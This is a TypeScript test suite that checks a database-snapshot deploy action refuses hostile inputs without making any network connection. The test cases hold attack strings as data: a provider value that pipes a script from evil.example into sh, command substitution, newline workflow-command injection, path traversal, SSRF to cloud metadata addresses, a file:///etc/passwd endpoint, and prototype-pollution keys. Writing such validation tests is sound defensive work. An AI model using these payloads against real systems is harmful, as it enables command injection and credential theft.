import { runAction } from '@deploy-actions/harness';
import { AWS_SECRET, awsEnv } from './helpers';
import { expectRefused, type HostileCase } from './hostile-table';
import { RdsEmulator } from '@deploy-actions/emulators';

// Issue 12: hostile inputs through the harness. Every case ends in one line naming the input, no stack,
// and no connection at all (counted by the harness's network guard, which also refuses any non-loopback one).

const SECRET = 'Hostile-Secret-9f8e7d6c';
const BIG = 'a'.repeat(100_000);
const PG = { provider: 'postgres', database: '', 'database-url': `postgres://app:${SECRET}@127.0.0.1:5432/app` };
const SQL = { provider: 'cloudsql', database: 'main-db', 'api-endpoint': 'http://127.0.0.1:9/' };

const cases: HostileCase[] = [
  // wrong types
  ['keep-last that is a word', { 'keep-last': 'ten' }, 'keep-last'],
  ['keep-last in exponent form', { 'keep-last': '1e3' }, 'keep-last'],
  ['wait that is not a boolean', { wait: 'maybe' }, 'wait'],
  ['compression-level with a fraction', { ...PG, 'compression-level': '6.5' }, 'compression-level'],
  ['a negative timeout', { timeout: '-5m' }, 'timeout'],
  ['poll-interval of zero', { 'poll-interval': '0' }, 'poll-interval'],
  // unknown enums
  ['an unknown provider', { provider: 'mongodb' }, 'provider'],
  ['a provider with shell metacharacters', { provider: 'rds; curl https://evil.example | sh' }, 'provider'],
  ['a provider with a newline', { provider: 'rds\ncloudsql' }, 'provider'],
  // path traversal
  ['traversal in the Cloud SQL project', { ...SQL, 'project-id': 'acme/../../../v1/projects/victim' }, 'project-id'],
  ['encoded traversal in the project', { ...SQL, 'project-id': 'acme%2F..%2F..%2Fvictim' }, 'project-id'],
  ['traversal in the Cloud SQL instance', { ...SQL, database: 'main-db/../../instances/other' }, 'database'],
  ['a dot-dot Cloud SQL instance', { ...SQL, database: '..' }, 'database'],
  ['traversal in the RDS identifier', { database: '../app-db' }, 'database'],
  ['a region that climbs out', { region: '../../eu-west-1' }, 'region'],
  // metadata and plain-http endpoints
  ['the metadata address as api-endpoint', { ...SQL, 'api-endpoint': 'http://169.254.169.254/' }, 'api-endpoint'],
  ['the metadata name as api-endpoint', { ...SQL, 'api-endpoint': 'http://metadata.google.internal/' }, 'api-endpoint'],
  ['plain http to a remote api-endpoint', { ...SQL, 'api-endpoint': 'http://sqladmin.example.com/' }, 'api-endpoint'],
  ['a file: api-endpoint', { ...SQL, 'api-endpoint': 'file:///etc/passwd' }, 'api-endpoint'],
  [
    'a database-url on the metadata address',
    { ...PG, 'database-url': `postgres://app:${SECRET}@169.254.169.254:5432/app` },
    'database-url',
  ],
  // shell metacharacters and newlines
  ['an identifier with a workflow command', { identifier: '{db}\n::set-output name=x::y' }, 'identifier'],
  ['a region with a newline', { region: 'eu-west-1\nus-east-1' }, 'region'],
  [
    'a database-url with a newline',
    { ...PG, 'database-url': `postgres://app:${SECRET}@127.0.0.1/app\n-c` },
    'database-url',
  ],
  ['tags with command substitution (RDS refuses the characters)', { tags: 'owner=$(id)' }, 'tags'],
  [
    'an artifact name with a path',
    { ...PG, 'upload-artifact': true, 'artifact-unencrypted': true, 'artifact-name': '../x' },
    'artifact-name',
  ],
  // 100 KB values
  ['a 100 KB identifier', { identifier: BIG }, 'identifier'],
  ['a 100 KB database', { database: BIG }, 'database'],
  ['a 100 KB tag value', { tags: `k=${BIG}` }, 'tags'],
  ['a 100 KB database-url', { ...PG, 'database-url': `postgres://app:${SECRET}@127.0.0.1/${BIG}` }, 'database-url'],
  // prototype keys
  ['a __proto__ tag', { tags: '__proto__=x' }, 'tags'],
  ['a constructor tag', { tags: 'constructor=x' }, 'tags'],
  // secrets in non-secret inputs, and weak secrets
  ['a database URL given as the RDS database', { database: `postgres://app:${SECRET}@db.internal/app` }, 'database'],
  [
    'a short artifact passphrase',
    { ...PG, 'upload-artifact': true, 'artifact-passphrase': 'hunter2' },
    'artifact-passphrase',
  ],
  [
    'an artifact recipient that is not an age key',
    { ...PG, 'upload-artifact': true, 'artifact-recipients': 'ssh-rsa AAAA' },
    'artifact-recipients',
  ],
  ['upload-artifact without any key', { ...PG, 'upload-artifact': true }, 'upload-artifact'],
  // more ways to write the metadata address, and a third prototype key
  ['the metadata address in hex as api-endpoint', { ...SQL, 'api-endpoint': 'http://0xA9FEA9FE/' }, 'api-endpoint'],
  ['the EC2 IPv6 metadata as api-endpoint', { ...SQL, 'api-endpoint': 'https://[fd00:ec2::254]/' }, 'api-endpoint'],
  [
    'a database-url on the IPv4-mapped metadata address',
    { ...PG, 'database-url': `postgres://app:${SECRET}@[::ffff:169.254.169.254]:5432/app` },
    'database-url',
  ],
  ['a prototype tag', { tags: 'prototype=x' }, 'tags'],
  [
    'a ?password= database-url with a newline',
    { ...PG, 'database-url': `postgres://app@127.0.0.1/app?password=${SECRET}\n-c` },
    'database-url',
  ],
];

describe('snapshot-db: hostile inputs', () => {
  let rds: RdsEmulator;
  beforeAll(async () => {
    rds = new RdsEmulator();
    await rds.listen();
  });
  afterAll(() => rds.close());

  it.each(cases)('%s', async (_, inputs, input) => {
    const result = await runAction('snapshot-db', {
      inputs: { provider: 'rds', database: 'app-db', ...inputs },
      env: awsEnv(rds),
      secrets: [SECRET, AWS_SECRET, 'hunter2'],
      networkGuard: true,
    });
    expectRefused(result, input);
    expect(rds.server.requests).toHaveLength(0);
  });

  it('has at least 25 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(25);
  });
});
